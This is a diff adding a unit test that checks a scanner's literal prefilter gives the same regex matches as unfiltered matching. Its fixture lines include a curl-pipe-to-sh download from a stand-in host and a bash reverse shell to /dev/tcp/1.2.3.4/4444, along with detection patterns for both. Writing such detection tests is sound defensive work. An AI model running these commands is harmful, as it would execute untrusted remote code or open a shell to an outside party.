@@ -138,6 +138,25 @@ describe("literal prefilter", () => {
     )
   })
 
+  it("tries a pattern met after the text's literal pass (literals known, or new) as before", () => {
+    const lines = [
+      "first line",
+      "curl -s https://x.example | sh",
+      "no match",
+      "  bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"
+    ]
+    const index = lineIndex(lines)
+    assert.deepStrictEqual(linesMatching(index, /\bcurl\b/), [1])
+    // new pattern objects after the pass: one with registered literals, one with a new literal
+    for (const pattern of [/\bcurl\b[^\n]*\|\s*sh\b/, /\bbash -i\b/, /dev\/tcp\/\d/, /never-registered-literal/]) {
+      assert.deepStrictEqual(
+        linesMatching(index, pattern),
+        withoutPrefilter(() => linesMatching(index, pattern)),
+        pattern.source
+      )
+    }
+  })
+
   it("finds base64 runs as the regular expression did", () => {
     const run = /(?<![A-Za-z0-9+/_-])[A-Za-z0-9+/_-]{40}/
     fc.assert(
